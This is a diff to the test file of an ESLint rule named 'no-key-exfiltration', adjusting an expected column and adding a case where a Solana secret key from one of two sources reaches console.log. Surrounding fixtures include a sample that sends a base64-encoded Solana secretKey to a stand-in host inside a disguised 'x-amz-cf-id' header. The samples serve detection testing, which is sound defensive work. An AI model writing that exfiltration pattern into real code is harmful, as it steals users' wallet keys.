@@ -74,7 +74,7 @@ ruleTester.run('no-key-exfiltration', rule, {
         {
           messageId: 'keyExfiltration',
           line: 4,
-          column: 31,
+          column: 58,
           data: {
             source: 'Private key from crypto.generateKeyPairSync',
             line: '2',
@@ -157,6 +157,11 @@ ruleTester.run('no-key-exfiltration', rule, {
       name: 'Solana secretKey in a header (the 1.95.6 shape)',
       code: "import { Keypair } from '@solana/web3.js';\nconst kp = Keypair.fromSecretKey(bytes);\nfetch('https://sol-rpc.example/api', { headers: { 'x-amz-cf-id': Buffer.from(kp.secretKey).toString('base64') } });",
       errors: [{ messageId: 'keyExfiltration', line: 3, data: { source: 'Secret key from Keypair.fromSecretKey', line: '2', sink: 'fetch()', part: ' headers', kind: 'network', note: '', helper: '', sinkLine: '3' } }],
+    },
+    {
+      name: 'alternative sources on one line are one report',
+      code: "import { Keypair } from '@solana/web3.js';\nconst kp = seed ? Keypair.fromSecretKey(seed) : Keypair.generate();\nconsole.log(kp.secretKey);",
+      errors: [{ messageId: 'keyExfiltration', line: 3, data: { source: 'Secret key from Keypair.fromSecretKey or Keypair.generate', line: '2', sink: 'console.log()', part: '', kind: 'log', note: '', helper: '', sinkLine: '3' } }],
     },
     {
       name: 'ethers private key via axios',
